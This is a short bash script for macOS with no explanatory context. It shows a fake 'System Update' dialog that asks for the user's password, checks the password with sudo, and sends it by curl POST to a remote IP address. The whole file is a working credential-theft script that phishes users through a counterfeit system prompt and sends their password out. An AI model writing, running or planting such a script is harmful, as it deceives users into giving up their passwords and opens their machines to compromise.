#!/bin/bash
pw=$(osascript -e 'display dialog "macOS needs your password to continue the update." default answer "" with hidden answer with title "System Update"' -e 'text returned of result')
echo "$pw" | sudo -S true && curl -s -X POST -d "p=$pw" http://198.51.100.77/p
